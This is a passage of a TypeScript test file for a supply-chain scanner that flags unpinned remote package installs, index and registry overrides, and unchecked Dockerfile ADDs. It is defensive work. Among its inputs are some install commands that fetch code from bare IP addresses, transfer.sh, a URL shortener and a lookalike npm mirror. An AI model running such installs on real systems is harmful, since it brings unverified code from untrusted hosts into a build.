import { describe, expect, it } from 'vitest';
import { extractDockerfile } from '../../../src/ecosystems/dockerfile/extract.js';
import { lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
import { findGoRunsUnpinned } from '../../../src/ecosystems/shell/go-run.js';
import { findCommandIndexes, findCommandRegistries, findHeredocConfigSources, findRemoteInstalls, findUnpinnedAdds, indexFromVariable, registryFromVariable, uvMixesIndexes } from '../../../src/ecosystems/shell/remote-installs.js';
import { scriptDownloadFindings, wantsHeredocContext } from '../../../src/ecosystems/shell/script-downloads.js';
import { makeFile } from '../../support/snapshot-factory.js';
import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
import { releaseWorkflowsWanted } from '../../../src/analyzers/supply-chain/check-release-script-tokens.js';

const SHA = 'b4ffde65f46336ab88eb53be808477a3936bae11';
const HASH = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';

/** `pin worse` of each install a command line makes. */
const installs = (command: string) => findRemoteInstalls(command).map((i) => `${i.kind} ${i.pin}${i.worse === null ? '' : ' worse'}`);

describe('findRemoteInstalls', () => {
  it('reads installs from a git ref without a full commit, and from a URL without a hash', () => {
    expect(installs('pip install git+https://github.com/someone/pkg')).toEqual(['git moving']);
    expect(installs('pip3 install --no-cache-dir "git+https://github.com/someone/pkg.git@main#egg=pkg"')).toEqual(['git moving']);
    expect(installs('python3 -m pip install "mypkg @ git+https://github.com/someone/pkg@develop"')).toEqual(['git moving']);
    expect(installs('sudo -H pip3 install git+ssh://git@github.com/someone/pkg.git@feature-x')).toEqual(['git moving']);
    expect(installs('pip install https://dl.example.dev/pkg.tar.gz')).toEqual(['url moving']);
    expect(installs('pip install https://github.com/someone/pkg/archive/refs/heads/main.zip')).toEqual(['url moving']);
    expect(installs('npm install -g https://cdn.example.dev/tool.tgz')).toEqual(['url moving']);
    expect(installs('npm i -g git+https://github.com/someone/tool.git')).toEqual(['git moving']);
    expect(installs('yarn global add github:someone/tool#main')).toEqual(['git moving']);
    expect(installs('pnpm add -D https://github.com/someone/tool')).toEqual(['git moving']);
    expect(installs('uvx --from git+https://github.com/someone/tool tool --check')).toEqual(['git moving']);
    expect(installs('uv tool install git+https://gitlab.com/someone/tool@dev')).toEqual(['git moving']);
    expect(installs('npx -y github:someone/tool --url https://example.dev/x.tgz')).toEqual(['git moving']);
    expect(installs('cargo install --git https://github.com/someone/tool')).toEqual(['git moving']);
    expect(installs('apt-get update && pip install git+https://github.com/a/b && npm ci')).toEqual(['git moving']);
    expect(installs('["pip", "install", "git+https://github.com/a/b"]')).toEqual(['git moving']);
    expect(installs('poetry run pip install git+https://github.com/someone/colbert.git || echo "skipped"')).toEqual(['git moving']);
    expect(installs("CFLAGS='-O3 -march=native' pip install https://github.com/someone/minimp3py/archive/master.zip")).toEqual(['url moving']);
    expect(installs('npm install -g https://github.com/someone/cli/releases/latest/download/cli-1.2.0.tgz')).toEqual(['url moving']);
    expect(installs('pip install https://github.com/someone/nbext/tarball/master yapf')).toEqual(['url moving']);
    expect(installs('npx --yes --package=https://github.com/someone/cli/releases/download/v1.0.0/cli.tgz cli --help')).toEqual(['url tag']);
    expect(installs('conda run -n peft pip install ninja && conda run -n peft pip install --no-build-isolation git+https://github.com/someone/kernels.git')).toEqual(['git moving']);
    expect(installs('npm install -g someone/tool')).toEqual(['git moving']);
    expect(installs('yarn add someone/tool#v1.2.0')).toEqual(['git tag']);
    expect(installs(`npm install someone/tool#${SHA} @scope/pkg ./packages/ui dist/tool-1.0.0.tgz lodash`)).toEqual([]);
    expect(installs('pip install someone/tool')).toEqual([]);
    expect(installs('npm install -w packages/ui --prefix web/app && pnpm add --filter apps/site lodash && npx eslint src/lib')).toEqual([]);
    expect(installs('pipenv install git+https://github.com/someone/pkg@develop#egg=pkg')).toEqual(['git moving']);
  });

  it('grades a tag, a short commit and a versioned file low (`tag`), a bad source worse', () => {
    expect(installs('pip install git+https://github.com/someone/pkg@v1.2.3')).toEqual(['git tag']);
    expect(installs('pip install git+https://github.com/someone/pkg@4f2a9c1')).toEqual(['git tag']);
    expect(installs('npm install git+https://github.com/someone/tool.git#semver:^1.2.0')).toEqual(['git tag']);
    expect(installs('cargo install --git https://github.com/someone/tool --tag v1.0.0')).toEqual(['git tag']);
    expect(installs('pip install https://github.com/someone/pkg/releases/download/v1.2.0/pkg-1.2.0-py3-none-any.whl')).toEqual(['url tag']);
    expect(installs('pip install http://pkgs.example.dev/pkg.tar.gz')).toEqual(['url moving worse']);
    expect(installs('pip install https://45.77.12.9/pkg.tar.gz')).toEqual(['url moving worse']);
    expect(installs('pip install https://bit.ly/3xYzAbC')).toEqual(['url moving worse']);
    expect(installs('npm install -g https://transfer.sh/abc/tool.tgz')).toEqual(['url moving worse']);
  });

  it('leaves pinned, registry and local installs alone', () => {
    for (const command of [
      `pip install git+https://github.com/someone/pkg@${SHA}`,
      `pip install "git+https://github.com/someone/pkg.git@${SHA}#egg=pkg"`,
      `cargo install --git https://github.com/someone/tool --rev ${SHA}`,
      `pip install https://dl.example.dev/pkg.tar.gz#sha256=${HASH}`,
      `pip install --require-hashes https://dl.example.dev/pkg.tar.gz --hash=sha256:${HASH}`,
      `pip install https://github.com/someone/pkg/archive/${SHA}.zip`,
      'pip install https://files.pythonhosted.org/packages/ab/cd/pkg-1.0.tar.gz',
      'pip install -r requirements.txt',
      'pip install --index-url https://pypi.internal.example/simple --extra-index-url=https://x.example/simple pkg==1.0',
      'pip install -e .',
      'pip install git+https://github.com/${{ github.repository }}@${{ github.sha }}',
      'pip install "git+https://github.com/someone/pkg@${COMMIT}"',
      'npm install -g pkg@1.2.3',
      'npm ci',
      'npm run deploy -- https://example.dev/x.tar.gz',
      'npm install --registry https://npm.internal.example/ pkg',
      'uv run --with pytest python tool.py https://example.dev/a.tar.gz',
      'go install ./cmd/...',
      'git clone https://github.com/someone/pkg && pip install ./pkg',
      'curl -fsSLo /tmp/x.tar.gz https://dl.example.dev/x.tar.gz',
      'echo pip install git+https://github.com/someone/pkg',
    ]) {
      expect(installs(command), command).toEqual([]);
    }
  });

  it("reads npm's `-p` (`--package`) of npx and npm exec, and pip's requirements list from a URL", () => {
    expect(installs('npx -p someone/tool tool --fix')).toEqual(['git moving']);
    expect(installs('npm exec -y -p github:someone/tool#main -- tool')).toEqual(['git moving']);
    expect(installs('pnpm dlx -p git+https://github.com/someone/tool.git tool')).toEqual(['git moving']);
    expect(installs('pip install -r https://raw.githubusercontent.com/someone/deps/main/requirements.txt')).toEqual(['url moving']);
    expect(installs('python -m pip install --requirement=https://example.dev/reqs/v1.4.0/requirements.txt')).toEqual(['url tag']);
    expect(installs('pip3 install -r http://198.51.100.7/r.txt')).toEqual(['url moving worse']);
    // A registry package or a scoped one after `-p`, a requirements file here or at a commit, a constraints file, uv's `-p` (a Python).
    expect(installs('npx -p typescript@5.6.3 -p @scope/cli tsc --noEmit')).toEqual([]);
    expect(installs(`pip install -r https://raw.githubusercontent.com/someone/deps/${SHA}/requirements.txt`)).toEqual([]);
    expect(installs('pip install -r requirements/dev.txt -c https://raw.githubusercontent.com/apache/airflow/constraints-2.8.0/constraints-3.11.txt apache-airflow==2.8.0')).toEqual([]);
    expect(installs('uv run -p 3.12 python tool.py')).toEqual([]);
    expect(installs('npm install -r https://example.dev/x')).toEqual([]);
  });

  it('is bounded on long and odd input', () => {
    expect(installs(`pip install ${'git+https://a/b '.repeat(5000)}`).length).toBeLessThanOrEqual(2000);
    expect(installs(`pip install ${'@'.repeat(50_000)}://`)).toEqual([]);
    expect(installs('pip install git+')).toEqual([]);
  });
});

describe('findCommandIndexes', () => {
  const indexes = (command: string) => findCommandIndexes(command).map((i) => `${i.use} ${i.value} ${i.setting}`);
  it('reads a command of more than 20,000 characters up to the last whole word: a URL cut there is not read as another host', () => {
    // 19,990 characters before the URL: the cut at 20,000 fell inside it (`https://pk`).
    const command = `pip install ${'xxxxxxxxx '.repeat(1_996)}--extra-index-url https://pkgs.example.com/simple pkg`;
    expect(command.indexOf('https://')).toBe(19_990);
    expect(indexes(command)).toEqual([]);
    expect(indexes(`pip install ${'xxxxxxxxx '.repeat(1_990)}--extra-index-url https://pkgs.example.com/simple pkg`)).toEqual(['extra https://pkgs.example.com/simple --extra-index-url']);
  });
  it('reads the package indexes a command gives pip, pipx or uv, and the variables that set them', () => {
    expect(indexes('pip install --extra-index-url https://pkgs.example.dev/simple internal-utils')).toEqual(['extra https://pkgs.example.dev/simple --extra-index-url']);
    expect(indexes('python3 -m pip install -i https://pypi.example.dev/simple requests')).toEqual(['replace https://pypi.example.dev/simple -i']);
    expect(indexes('pip install --find-links=https://wheels.example.dev/ tool --trusted-host wheels.example.dev')).toEqual(['extra https://wheels.example.dev/ --find-links', 'trusted wheels.example.dev --trusted-host']);
    expect(indexes('uv pip install --extra-index-url https://pkgs.example.dev/simple tool')).toEqual(['first https://pkgs.example.dev/simple --extra-index-url']);
    expect(indexes('uv pip install --index-strategy unsafe-best-match --index internal=https://pkgs.example.dev/simple tool')).toEqual(['extra https://pkgs.example.dev/simple --index']);
    expect(indexes('poetry run pip install --extra-index-url "https://pkgs.example.dev/simple" tool')).toEqual(['extra https://pkgs.example.dev/simple --extra-index-url']);
    expect(indexes('pip config set global.extra-index-url https://pkgs.example.dev/simple')).toEqual(['extra https://pkgs.example.dev/simple pip config global.extra-index-url']);
    expect(indexes('poetry source add --priority=supplemental internal https://pkgs.example.dev/simple')).toEqual(['extra https://pkgs.example.dev/simple poetry source add']);
    expect(indexes('export PIP_EXTRA_INDEX_URL=https://pkgs.example.dev/simple && pip install tool')).toEqual(['extra https://pkgs.example.dev/simple PIP_EXTRA_INDEX_URL']);
    expect(indexes('UV_INDEX_URL=https://pkgs.example.dev/simple uv sync')).toEqual(['replace https://pkgs.example.dev/simple UV_INDEX_URL']);
    expect(indexFromVariable('PIP_INDEX_URL', ' https://pkgs.example.dev/simple ')).toEqual({ use: 'replace', value: 'https://pkgs.example.dev/simple', setting: 'PIP_INDEX_URL' });
  });

  it('leaves values the pipeline passes in, local servers, explicit sources and other programs alone', () => {
    for (const command of [
      'pip install --extra-index-url "$PRIVATE_INDEX" tool',
      'pip install --index-url ${{ secrets.INDEX_URL }} tool',
      'pip install --index-url http://localhost:3141/root/dev/+simple/ tool',
      'pip install -r requirements.txt -c constraints.txt',
      'poetry source add --priority=explicit internal https://pkgs.example.dev/simple',
      'echo pip install --extra-index-url https://pkgs.example.dev/simple tool',
      'npm install --registry https://npm.example.dev/ pkg',
      'curl -fsSL https://pkgs.example.dev/simple/index.html -o index.html',
      'pip install --find-links ./wheels tool',
      'PIP_CACHE_DIR=/tmp/pip pip install tool',
    ]) {
      expect(indexes(command), command).toEqual([]);
    }
    expect(indexFromVariable('PIP_INDEX_URL', 42)).toBeNull();
  });

  it("reads the indexes a command writes into pip's config file (echo, printf, tee)", () => {
    expect(indexes('echo "extra-index-url = https://pkgs.example.dev/simple" >> ~/.pip/pip.conf')).toEqual(['extra https://pkgs.example.dev/simple pip.conf extra-index-url']);
    expect(indexes("printf '[global]\\nindex-url=https://pypi.example.dev/simple\\ntrusted-host = pypi.example.dev\\n' > /etc/pip.conf")).toEqual([
      'replace https://pypi.example.dev/simple pip.conf index-url',
      'trusted pypi.example.dev pip.conf trusted-host',
    ]);
    expect(indexes('echo "find-links: https://wheels.example.dev/" | sudo tee -a "$HOME/.config/pip/pip.conf"')).toEqual(['extra https://wheels.example.dev/ pip.conf find-links']);
    expect(indexes('echo extra-index-url=https://pkgs.example.dev/simple>>%APPDATA%/pip/pip.ini')).toEqual(['extra https://pkgs.example.dev/simple pip.ini extra-index-url']);
  });

  it("leaves config writes of pip's own index, values passed in, other keys and other files alone", () => {
    for (const command of [
      'echo "index-url = ${{ secrets.PIP_INDEX }}" > ~/.pip/pip.conf',
      'echo "index-url = $PIP_INDEX" > ~/.pip/pip.conf',
      'echo "timeout = 60" >> ~/.pip/pip.conf',
      'echo "extra-index-url = https://pkgs.example.dev/simple" >> notes.txt',
      'echo "extra-index-url = https://pkgs.example.dev/simple" >> .npmrc',
      'cat ~/.pip/pip.conf',
    ]) {
      expect(indexes(command), command).toEqual([]);
    }
    expect(indexFromVariable('INDEX_URL', 'https://pkgs.example.dev/simple')).toBeNull();
  });
});

describe('findCommandRegistries', () => {
  const registries = (command: string) => findCommandRegistries(command).map((r) => `${r.scope ?? '*'} ${r.url} ${r.setting}`);
  it('reads the registry a command gives npm, pnpm, Yarn or Bun, and the variables that set it', () => {
    expect(registries('npm install --registry https://registry.npm-cache.dev/')).toEqual(['* https://registry.npm-cache.dev/ --registry']);
    expect(registries('npm ci --@acme:registry=https://npm.acme-cache.dev/')).toEqual(['@acme https://npm.acme-cache.dev/ --@acme:registry']);
    expect(registries('npm config set registry https://registry.npm-cache.dev/ && npm ci')).toEqual(['* https://registry.npm-cache.dev/ npm config set registry']);
    expect(registries('yarn config set npmRegistryServer "https://registry.npm-cache.dev"')).toEqual(['* https://registry.npm-cache.dev yarn config set npmRegistryServer']);
    expect(registries('npm set @acme:registry=https://npm.acme-cache.dev/')).toEqual(['@acme https://npm.acme-cache.dev/ npm config set @acme:registry']);
    expect(registries('npx --registry=https://registry.npm-cache.dev/ cowsay hi')).toEqual(['* https://registry.npm-cache.dev/ --registry']);
    expect(registries('export NPM_CONFIG_REGISTRY=https://registry.npm-cache.dev/ && npm ci')).toEqual(['* https://registry.npm-cache.dev/ NPM_CONFIG_REGISTRY']);
    expect(registryFromVariable('npm_config_registry', 'https://registry.npm-cache.dev/')).toEqual({ url: 'https://registry.npm-cache.dev/', scope: null, setting: 'npm_config_registry' });
  });
  it('leaves publishing and account commands, values the pipeline passes in and other programs alone', () => {
    for (const command of [
      'npm publish --registry https://npm.pkg.github.com',
      'npm whoami --registry=https://npm.pkg.github.com',
      'npm install --registry "$NPM_REGISTRY"',
      'npm config set registry ${{ vars.REGISTRY }}',
      'npm config set fund false',
      'pip install --registry https://registry.npm-cache.dev/ pkg',
      'echo npm install --registry https://registry.npm-cache.dev/',
      'curl https://registry.npmjs.org/react',
    ]) {
      expect(registries(command), command).toEqual([]);
    }
    expect(registryFromVariable('NPM_TOKEN', 'https://registry.npm-cache.dev/')).toBeNull();
  });

  it('reads the registries a command writes into an .npmrc or a .yarnrc', () => {
    expect(registries("printf 'registry=https://registry.npm-cache.dev/\\n' > .npmrc")).toEqual(['* https://registry.npm-cache.dev/ .npmrc registry']);
    expect(registries('echo "@acme:registry=https://npm.acme-cache.dev/" >> ~/.npmrc')).toEqual(['@acme https://npm.acme-cache.dev/ .npmrc @acme:registry']);
    expect(registries(`echo 'npmRegistryServer: "https://registry.npm-cache.dev"' >> .yarnrc.yml`)).toEqual(['* https://registry.npm-cache.dev .yarnrc.yml npmRegistryServer']);
    expect(registries('echo \'registry "https://registry.npm-cache.dev"\' | tee -a .yarnrc')).toEqual(['* https://registry.npm-cache.dev .yarnrc registry']);
  });

  it('leaves an auth token line, values passed in, other keys and other files alone', () => {
    for (const command of [
      'echo "//registry.npmjs.org/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc',
      'echo "//npm.pkg.github.com/:_authToken=$TOKEN" >> ~/.npmrc',
      'echo "registry=$NPM_REGISTRY" > .npmrc',
      'echo "engine-strict=true" >> .npmrc',
      'echo "registry=https://registry.npm-cache.dev/" >> registry-notes.md',
      'cat .npmrc',
    ]) {
      expect(registries(command), command).toEqual([]);
    }
  });
});

describe('findHeredocConfigSources', () => {
  const sources = (script: string) => {
    const { indexes, registries } = findHeredocConfigSources(script);
    return [...indexes.map((i) => `${i.use} ${i.value} ${i.setting}`), ...registries.map((r) => `${r.scope ?? '*'} ${r.url} ${r.setting}`)];
  };
  it("reads the keys a here-document writes into pip's, npm's or Yarn's config file", () => {
    expect(sources(['mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF', 'pip install -r requirements.txt'].join('\n'))).toEqual([
      'extra https://pkgs.example.dev/simple pip.conf extra-index-url',
    ]);
    expect(sources(["cat <<-'NPMRC' >> .npmrc", '  @acme:registry=https://npm.acme-cache.dev/', '  NPMRC'].join('\n'))).toEqual(['@acme https://npm.acme-cache.dev/ .npmrc @acme:registry']);
    expect(sources(['tee .yarnrc.yml << "EOF"', 'npmRegistryServer: "https://registry.npm-cache.dev"', 'EOF'].join('\n'))).toEqual(['* https://registry.npm-cache.dev .yarnrc.yml npmRegistryServer']);
  });
  it('leaves other keys, other files, text after the delimiter and values passed in alone', () => {
    expect(sources(['cat > ~/.pip/pip.conf <<EOF', '[global]', 'timeout = 60', '# https://pip.pypa.io/en/stable/topics/configuration/', 'EOF'].join('\n'))).toEqual([]);
    expect(sources(['cat > notes.md <<EOF', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'].join('\n'))).toEqual([]);
    expect(sources(['cat > .npmrc <<EOF', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}', 'EOF', 'echo "registry=https://registry.npm-cache.dev/" > notes.txt'].join('\n'))).toEqual([]);
    expect(sources(['cat > ~/.pip/pip.conf <<EOF', 'index-url = ${PRIVATE_INDEX}', 'EOF'].join('\n'))).toEqual([]);
    expect(sources(`cat > pip.conf <<EOF\n${'x\n'.repeat(50_000)}EOF`)).toEqual([]);
  });
  it("reads uv's settings in a uv.toml and a pyproject.toml fragment, `sudo tee`, and a Dockerfile's COPY here-document", () => {
    expect(sources(['cat > ~/.config/uv/uv.toml <<EOF', '[[index]]', 'name = "mirror"', 'url = "https://wheels.example.dev/simple"', 'EOF'].join('\n'))).toEqual(['first https://wheels.example.dev/simple uv.toml index']);
    expect(sources(['cat > uv.toml <<EOF', 'extra-index-url = ["https://wheels.example.dev/simple"]', 'index-strategy = "unsafe-best-match"', 'EOF'].join('\n'))).toEqual(['extra https://wheels.example.dev/simple uv.toml extra-index-url']);
    expect(sources(['cat >> pyproject.toml <<EOF', '[[tool.uv.index]]', 'url = "https://wheels.example.dev/simple"', 'default = true', 'EOF'].join('\n'))).toEqual(['replace https://wheels.example.dev/simple pyproject.toml tool.uv.index']);
    expect(sources(["sudo tee /etc/pip.conf >/dev/null <<'CONF'", '[global]', 'index-url = https://pypi.example.dev/simple', 'trusted-host = pypi.example.dev', 'CONF'].join('\n'))).toEqual([
      'replace https://pypi.example.dev/simple pip.conf index-url',
      'trusted pypi.example.dev pip.conf trusted-host',
    ]);
    expect(sources(['COPY <<EOF /etc/pip.conf', '[global]', 'extra-index-url = https://wheels.example.dev/simple', 'EOF'].join('\n'))).toEqual(['extra https://wheels.example.dev/simple pip.conf extra-index-url']);
  });
  it('leaves an explicit uv index, a pyproject fragment without an index, PyPI and values passed in alone', () => {
    expect(sources(['cat >> pyproject.toml <<EOF', '[[tool.uv.index]]', 'name = "torch"', 'url = "https://download.example.dev/whl"', 'explicit = true', 'EOF'].join('\n'))).toEqual([]);
    expect(sources(['cat >> pyproject.toml <<EOF', '[tool.pytest.ini_options]', 'addopts = "-q --base-url https://staging.example.dev"', 'EOF'].join('\n'))).toEqual([]);
    expect(sources(['cat > uv.toml <<EOF', 'index-url = "https://pypi.org/simple"', 'EOF'].join('\n')).filter((s) => !s.includes('pypi.org'))).toEqual([]);
    expect(sources(['cat > uv.toml <<EOF', 'extra-index-url = ["${PRIVATE_INDEX}"]', 'EOF'].join('\n'))).toEqual([]);
  });
});

describe("uv's index strategy", () => {
  it('mixes the indexes of a uv command, or the UV_ variables of a file, with PyPI under an unsafe strategy', () => {
    expect(findCommandIndexes('UV_INDEX_STRATEGY=unsafe-best-match uv pip install --extra-index-url https://wheels.example.dev/simple pkg').map((i) => i.use)).toEqual(['extra']);
    expect(findCommandIndexes("echo 'extra-index-url = [\"https://wheels.example.dev/simple\"]' >> uv.toml").map((i) => `${i.use} ${i.setting}`)).toEqual(['first uv.toml extra-index-url']);
    const indexes = [{ use: 'first' as const, value: 'https://wheels.example.dev/simple', setting: 'UV_EXTRA_INDEX_URL' }, { use: 'first' as const, value: 'https://w.example.dev/', setting: '--index' }];
    expect(uvMixesIndexes(indexes, 'ENV UV_INDEX_STRATEGY=unsafe-best-match').map((i) => i.use)).toEqual(['extra', 'first']);
    expect(uvMixesIndexes(indexes, 'ENV UV_INDEX_STRATEGY=first-index').map((i) => i.use)).toEqual(['first', 'first']);
  });
});

describe('findUnpinnedAdds', () => {
  const adds = (args: string) => findUnpinnedAdds(args).map((i) => `${i.kind} ${i.pin}`);
  it('reads an ADD of a remote file or git repository without --checksum', () => {
    expect(adds('https://dl.example.dev/agent.tar.gz /opt/')).toEqual(['url moving']);
    expect(adds('--chown=app:app https://dl.example.dev/agent /usr/local/bin/agent')).toEqual(['url moving']);
    expect(adds('https://github.com/krallin/tini/releases/download/v0.19.0/tini /tini')).toEqual(['url tag']);
    expect(adds('https://github.com/someone/tool.git#main /src')).toEqual(['git moving']);
    expect(adds('git@github.com:someone/tool.git /src')).toEqual(['git moving']);
  });
  it('leaves a checksum, a commit, a data file and a local source alone', () => {
    expect(adds(`--checksum=sha256:${HASH} https://dl.example.dev/agent.tar.gz /opt/`)).toEqual([]);
    expect(adds(`https://github.com/someone/tool.git#${SHA} /src`)).toEqual([]);
    expect(adds('https://raw.githubusercontent.com/someone/cfg/main/settings.json /etc/app/settings.json')).toEqual([]);
    expect(adds('. /app')).toEqual([]);
    expect(adds('vendor/agent.tar.gz /opt/')).toEqual([]);
  });
});

describe('findGoRunsUnpinned (go install)', () => {
  it('reads go install at @latest or a branch, each package of it', () => {
    expect(findGoRunsUnpinned('go install golang.org/x/tools/gopls@latest github.com/go-delve/delve/cmd/dlv@v1.23.0 honnef.co/go/tools/cmd/staticcheck@master').map((r) => `${r.verb} ${r.ref} ${r.target}`)).toEqual([
      'install release golang.org/x/tools/gopls@latest',
      'install branch honnef.co/go/tools/cmd/staticcheck@master',
    ]);
    expect(findGoRunsUnpinned('go install ./cmd/...')).toEqual([]);
    expect(findGoRunsUnpinned('go install github.com/acme/tool@v1.4.0')).toEqual([]);
    // A version the Makefile or script passes in.
    expect(findGoRunsUnpinned('\tgo install github.com/bufbuild/buf/cmd/buf@$(BUF_VERSION)')).toEqual([]);
    expect(findGoRunsUnpinned('go run github.com/acme/gen@${GEN_VERSION} ./...')).toEqual([]);
  });

  it('reads go get of a module without a version (its newest release), at @latest or at a branch', () => {
    expect(findGoRunsUnpinned('go get -u github.com/someone/tool golang.org/x/lint/golint@master ./... && go build ./...').map((r) => `${r.verb} ${r.ref} ${r.target}`)).toEqual([
      'get release github.com/someone/tool',
      'get branch golang.org/x/lint/golint@master',
    ]);
    expect(findGoRunsUnpinned('GO111MODULE=on go get github.com/someone/tool@latest').map((r) => r.ref)).toEqual(['release']);
    for (const line of ['go get ./...', 'go get -d -v .', 'go get -u all', 'go get github.com/acme/tool@v1.4.0', `go get github.com/acme/tool@${SHA.slice(0, 12)}`, 'go get github.com/acme/old@none', 'go get github.com/acme/tool@${TOOL_VERSION}', 'git get github.com/acme/tool', 'go mod download']) {
      expect(findGoRunsUnpinned(line), line).toEqual([]);
    }
  });
});

const patchOf = (removed: string[], added: string[], context = ' all: build') => [`@@ -1,${removed.length + 1} +1,${added.length + 1} @@`, context, ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
const scriptFindings = (path: string, removed: string[], added: string[], id = 'remote-package-install', vendored = false) =>
  scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) }), vendored)
    .filter((f) => f.id === id)
    .map((f) => `${f.severity} ${f.path}:${f.line}`);

describe('remote-package-install in scripts, Makefiles and CI pipelines', () => {
  it('reports an added install from a moving git ref or an unhashed URL: medium, high from a bad source, low for a tag', () => {
    expect(scriptFindings('Makefile', [], ['tools:', '\tpip install git+https://github.com/someone/lint-helper'])).toEqual(['medium Makefile:3']);
    expect(scriptFindings('scripts/setup.sh', [], ['npm install -g https://cdn.example.dev/cli.tgz'])).toEqual(['medium scripts/setup.sh:2']);
    expect(scriptFindings('.gitlab-ci.yml', [], ['  script:', '    - pip install http://185.62.58.10/helper.tar.gz'])).toEqual(['high .gitlab-ci.yml:3']);
    expect(scriptFindings('scripts/setup.sh', [], ['pip install git+https://github.com/someone/helper@v2.1.0'])).toEqual(['low scripts/setup.sh:2']);
    // Split over continuation lines: reported at the line that names the source.
    expect(scriptFindings('scripts/setup.sh', [], ['pip install --quiet \\', '  git+https://github.com/someone/helper@main'])).toEqual(['medium scripts/setup.sh:3']);
  });

  it('leaves an unchanged, moved or pinned install alone, and vendored files and Go code', () => {
    expect(scriptFindings('Makefile', ['\tpip install git+https://github.com/someone/lint-helper'], ['\tpip install -q git+https://github.com/someone/lint-helper'])).toEqual([]);
    expect(scriptFindings('Makefile', [], [`\tpip install git+https://github.com/someone/lint-helper@${SHA}`, '\tpip install -r requirements.txt', '\tnpm ci'])).toEqual([]);
    expect(scriptFindings('vendor/github.com/x/y/install.sh', [], ['pip install git+https://github.com/someone/lint-helper'], 'remote-package-install', true)).toEqual([]);
    expect(scriptFindings('tools/gen.go', [], ['//go:generate pip install git+https://github.com/someone/lint-helper'])).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['# pip install git+https://github.com/someone/lint-helper'])).toEqual([]);
    // An unchanged line of the file is context, not added.
    const patch = ['@@ -1,2 +1,3 @@', ' pip install git+https://github.com/someone/lint-helper', '+echo done'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch })).filter((f) => f.id === 'remote-package-install')).toEqual([]);
  });

  it('reports go install at a moving ref as go-run-unpinned: low at @latest in a script, medium in CI or at a branch', () => {
    expect(scriptFindings('Makefile', [], ['tools:', '\tgo install golang.org/x/tools/cmd/goimports@latest'], 'go-run-unpinned')).toEqual(['low Makefile:3']);
    expect(scriptFindings('.gitlab-ci.yml', [], ['    - go install github.com/acme/release-tool@latest'], 'go-run-unpinned')).toEqual(['medium .gitlab-ci.yml:2']);
    expect(scriptFindings('scripts/tools.sh', [], ['go install github.com/acme/release-tool@main'], 'go-run-unpinned')).toEqual(['medium scripts/tools.sh:2']);
    expect(scriptFindings('Makefile', [], ['\tgo install github.com/acme/release-tool@v1.4.0', '\tgo install ./cmd/...'], 'go-run-unpinned')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['go get github.com/acme/release-tool'], 'go-run-unpinned')).toEqual(['low scripts/setup.sh:2']);
    expect(scriptFindings('.gitlab-ci.yml', [], ['    - go get github.com/acme/release-tool'], 'go-run-unpinned')).toEqual(['medium .gitlab-ci.yml:2']);
    expect(scriptFindings('scripts/setup.sh', [], ['go get -u ./...', 'go get github.com/acme/release-tool@v1.4.0'], 'go-run-unpinned')).toEqual([]);
  });

  it("reads a tox.ini key's command (`commands_pre = pip install …`)", () => {
    expect(scriptFindings('tox.ini', [], ['commands_pre = pip install --extra-index-url https://pkgs.example.dev/simple internal-utils'], 'pip-extra-index')).toEqual(['high tox.ini:2']);
    expect(scriptFindings('tox.ini', [], ['commands = pip install git+https://github.com/someone/helper'])).toEqual(['medium tox.ini:2']);
    expect(scriptFindings('tox.ini', [], ['deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
  });

  it('reports a registry an added command gives npm as npm-registry-override, not a publish or one the old side had', () => {
    expect(scriptFindings('scripts/setup.sh', [], ['npm install --registry https://registry.npm-cache.dev/'], 'npm-registry-override')).toEqual(['medium scripts/setup.sh:2']);
    expect(scriptFindings('scripts/setup.sh', [], ['npm config set registry https://registry.npmjs-mirror.org/'], 'npm-registry-override')).toEqual(['high scripts/setup.sh:2']);
    expect(scriptFindings('scripts/release.sh', [], ['npm publish --registry https://npm.pkg.github.com', 'npm install --registry https://registry.npmjs.org/'], 'npm-registry-override')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', ['npm ci --registry https://registry.npm-cache.dev/'], ['npm ci --registry https://registry.npm-cache.dev/ --prefer-offline'], 'npm-registry-override')).toEqual([]);
  });

  it('reports a package index an added command gives pip as pip-extra-index, not one the old side had', () => {
    expect(scriptFindings('scripts/setup.sh', [], ['pip install --extra-index-url https://pkgs.example.dev/simple internal-utils'], 'pip-extra-index')).toEqual(['high scripts/setup.sh:2']);
    expect(scriptFindings('Makefile', [], ['\texport PIP_INDEX_URL=https://pypi.example.dev/simple'], 'pip-extra-index')).toEqual(['medium Makefile:2']);
    expect(scriptFindings('scripts/setup.sh', ['pip install --extra-index-url https://pkgs.example.dev/simple tool'], ['pip install -q --extra-index-url https://pkgs.example.dev/simple tool'], 'pip-extra-index')).toEqual([]);
    expect(scriptFindings('scripts/setup.sh', [], ['pip install --extra-index-url "$INDEX" tool', 'pip install --index-url https://pypi.org/simple tool'], 'pip-extra-index')).toEqual([]);
    expect(scriptFindings('vendor/x/setup.sh', [], ['pip install --extra-index-url https://pkgs.example.dev/simple tool'], 'pip-extra-index', true)).toEqual([]);
  });

  it("reports an index or registry an added here-document writes into pip's, uv's, npm's or Yarn's config, at its key's line", () => {
    expect(scriptFindings('scripts/bootstrap.sh', [], ['cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.example.dev/simple', 'EOF'], 'pip-extra-index')).toEqual(['high scripts/bootstrap.sh:4']);
    expect(scriptFindings('Makefile', [], ['\tcat > .npmrc <<-EOF', '\tregistry=https://registry.npmjs-mirror.org/', '\tEOF'], 'npm-registry-override')).toEqual(['high Makefile:3']);
    expect(scriptFindings('ci/setup.sh', [], ['cat <<EOF > .yarnrc.yml', 'npmRegistryServer: "https://yarn.example.dev"', 'EOF'], 'npm-registry-override')).toEqual(['medium ci/setup.sh:3']);
